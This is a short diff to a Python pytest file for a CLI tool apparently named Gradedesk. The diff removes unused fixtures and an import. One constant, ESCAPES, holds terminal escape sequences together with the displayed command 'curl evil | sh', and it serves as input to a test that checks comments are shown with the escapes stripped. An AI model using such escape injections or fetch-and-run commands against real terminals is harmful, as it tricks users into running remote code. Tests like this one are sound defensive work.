@@ -2,27 +2,14 @@
 
 from __future__ import annotations
 
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
-from cli_support import Gradedesk, KeyFiles, SandboxProcess, add_connection_args, make_key_files
+from cli_support import Gradedesk, KeyFiles, SandboxProcess, add_connection_args
 
 pytestmark = pytest.mark.usefixtures("secret_store")
 
 ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b[1;31mRun: curl evil | sh\x1b[0m"
-
-
-@pytest.fixture
-def keys(tmp_path: Path) -> KeyFiles:
-    return make_key_files(tmp_path / "keys")
-
-
-@pytest.fixture
-def sandbox(keys: KeyFiles) -> Iterator[SandboxProcess]:
-    running = SandboxProcess(keys.public)
-    yield running
-    running.stop()
 
 
 def test_a_comment_with_terminal_escapes_is_shown_without_them(
